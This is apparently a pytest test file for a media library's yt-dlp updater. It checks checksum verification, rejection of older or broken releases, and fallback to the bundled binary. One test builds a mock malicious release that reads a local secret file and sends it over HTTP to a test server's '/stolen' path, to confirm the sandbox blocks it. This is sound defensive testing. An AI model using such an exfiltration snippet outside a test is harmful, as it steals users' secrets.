"""The update of yt-dlp: proven, tried out, used from then on; a broken one is never used."""

import hashlib
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from media_library.app_state import AppState
from media_library.errors import MediaLibraryError, ToolFailed
from media_library.models.job import JobStatus
from media_library.services.downloader_updates import DownloaderUpdates, UpdateState
from tests.conftest import wait_for
from tests.fetching import FetchHouse, fetch_house
from tests.internet import Page, Site, serve, shapes


@pytest.fixture
def web() -> Iterator[Site]:
    """A site with releases."""
    with serve() as site:
        yield site


@pytest.fixture
def house(tmp_path: Path, state: AppState, web: Site) -> Iterator[FetchHouse]:
    """A house that gets its releases there."""
    with fetch_house(tmp_path, state, web.authority, ytdlp_releases=web.url("/releases")) as house:
        yield house


def program(version: str, body: str = "import yt_dlp; yt_dlp.main()") -> bytes:
    """A zip file of Python that tells a version, and otherwise is the bundled yt-dlp."""
    main = f"import sys\nif '--version' in sys.argv:\n    print('{version}')\nelse:\n    {body}\n"
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("__main__.py", main)
    return b"#!/usr/bin/env python3\n" + written.getvalue()


def release(web: Site, content: bytes, *, digest: str | None = None) -> None:
    """Publish a release."""
    web.put("/releases/yt-dlp", Page(content, "application/octet-stream"))
    sums = f"{'0' * 64}  yt-dlp.exe\n{digest or hashlib.sha256(content).hexdigest()}  yt-dlp\n"
    web.put("/releases/SHA2-256SUMS", Page(sums.encode(), "text/plain"))


def test_the_bundled_one_is_used_and_its_age_is_known(house: FetchHouse) -> None:
    status = house.updates.status()
    assert status.version == "2026.10.26"
    assert status.age_days >= 0
    assert (status.updated_at, status.update) == (None, UpdateState.IDLE)


def test_a_newer_one_is_used_from_then_on_also_by_others(house: FetchHouse, web: Site) -> None:
    release(web, program("2027.01.02"))
    other = DownloaderUpdates(house.settings, house.http)
    assert other.current().version == "2026.10.26"
    assert house.updates.update().version == "2027.01.02"
    assert other.current().version == "2027.01.02"
    assert other.status().updated_at is not None
    job = house.fetch(shapes.video_page(web))
    assert job.status is JobStatus.DONE, (job.error, job.tool_output)


def test_a_wrong_checksum_changes_nothing(house: FetchHouse, web: Site) -> None:
    release(web, program("2027.01.02"), digest="1" * 64)
    with pytest.raises(ToolFailed, match="checksum"):
        house.updates.update()
    assert house.updates.current().version == "2026.10.26"
    assert not [file for file in (house.settings.data_directory / "tools").rglob("*") if file.is_file()]


def test_a_release_without_a_checksum_is_not_used(house: FetchHouse, web: Site) -> None:
    release(web, program("2027.01.02"))
    web.put("/releases/SHA2-256SUMS", Page(b"nothing of use", "text/plain"))
    with pytest.raises(ToolFailed, match="checksum"):
        house.updates.update()


def test_an_older_one_is_never_taken(house: FetchHouse, web: Site) -> None:
    release(web, program("2025.01.01"))
    with pytest.raises(ToolFailed, match="older"):
        house.updates.update()
    assert house.updates.current().version == "2026.10.26"


def test_the_same_one_is_no_update(house: FetchHouse, web: Site) -> None:
    release(web, program("2026.10.26"))
    assert house.updates.update().folder is None


@pytest.mark.parametrize("content", [b"no program at all", program("no version")])
def test_one_that_does_not_run_is_not_used(house: FetchHouse, web: Site, content: bytes) -> None:
    release(web, content)
    with pytest.raises(MediaLibraryError):
        house.updates.update()
    assert house.updates.current().version == "2026.10.26"


def test_one_that_broke_later_gives_way_to_the_bundled_one(house: FetchHouse, web: Site) -> None:
    release(web, program("2027.01.02"))
    fetched = house.updates.update()
    assert fetched.folder is not None
    (fetched.folder / "yt-dlp").write_bytes(b"damaged")
    assert DownloaderUpdates(house.settings, house.http).current().version == "2026.10.26"


def test_an_update_cannot_reach_the_network_or_the_house_while_it_is_tried_out(house: FetchHouse, web: Site) -> None:
    secret = house.settings.data_directory / "secret"
    secret.parent.mkdir(parents=True, exist_ok=True)
    secret.write_text("secret")
    steal = (
        "import sys, urllib.request, pathlib\n"
        f"text = pathlib.Path({str(secret)!r}).read_text()\n"
        f"urllib.request.urlopen({web.url('/stolen')!r} + text)\n"
    )
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("__main__.py", steal)
    release(web, written.getvalue())
    with pytest.raises(MediaLibraryError):
        house.updates.update()
    assert web.hits_of("/stolen") == []


def test_an_update_by_the_button_tells_how_it_went(house: FetchHouse, web: Site) -> None:
    release(web, program("2027.01.02"))
    house.updates.start_update()
    wait_for(lambda: house.updates.status().update is UpdateState.DONE, seconds=30)
    assert "2027.01.02" in house.updates.status().message
    web.put("/releases/SHA2-256SUMS", Page(status=404))
    house.updates.start_update()
    wait_for(lambda: house.updates.status().update is UpdateState.FAILED, seconds=30)
    assert house.updates.status().message
